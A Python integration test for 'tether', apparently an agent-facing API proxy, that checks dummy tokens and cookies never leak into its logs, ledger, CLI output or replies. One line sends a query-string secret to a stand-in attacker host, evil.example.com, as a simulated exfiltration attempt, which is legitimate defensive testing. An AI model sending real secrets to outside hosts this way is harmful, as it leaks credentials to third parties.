"""Secret scanner: the secrets in play never appear in the ledger, tether's log, CLI output or replies."""

from tests.integration.harness import GITHUB_SECRET, github_policy

API = "https://api.github.com"
AGENT_TOKEN = "ghp_AGENTSUPPLIEDtoken1234567890abcdef"
QUERY_SECRET = "qs_SECRETinQUERYstring0987654321"
COOKIE_SECRET = "session=COOKIESECRETvalue112233"


def test_no_secret_leaks_anywhere(make_tether, tmp_path):
    tether = make_tether(github_policy(egress=["status.example.com"]))
    replies: list[str] = []
    with tether.session(Authorization=f"Bearer {AGENT_TOKEN}", Cookie=COOKIE_SECRET) as s:
        replies.append(s.get(f"{API}/repos/acme/api/pulls/7?access_token={QUERY_SECRET}").text)
        replies.append(s.delete(f"{API}/repos/acme/api?token={QUERY_SECRET}").text)
        replies.append(s.get(f"https://evil.example.com/?k={QUERY_SECRET}").text)
        # The secret file disappears: the next run's mint fails.
        (tether.directory / "github-token").unlink()
        replies.append(s.get(f"{API}/zen", headers={"X-Tether-Run": "run-after-rotation"}).text)
    assert any('"tether_mint_failed"' in r for r in replies)
    tether.stop()

    outputs = [
        tether.log(),
        tether.cli("export", "events", "--ledger", str(tether.ledger_path)).stdout,
        tether.cli("timeline", "--ledger", str(tether.ledger_path)).stdout,
        tether.cli("verify", "--ledger", str(tether.ledger_path)).stdout,
        *replies,
    ]
    ledger_files = tether.ledger_path.parent.glob("ledger.db*")
    outputs += [path.read_bytes().decode(errors="replace") for path in ledger_files]
    for secret in (GITHUB_SECRET, AGENT_TOKEN, QUERY_SECRET, COOKIE_SECRET.split("=")[1]):
        leaks = [i for i, text in enumerate(outputs) if secret in text]
        # Name where, never print the secret itself.
        assert not leaks, f"a test secret appears in outputs {leaks}"
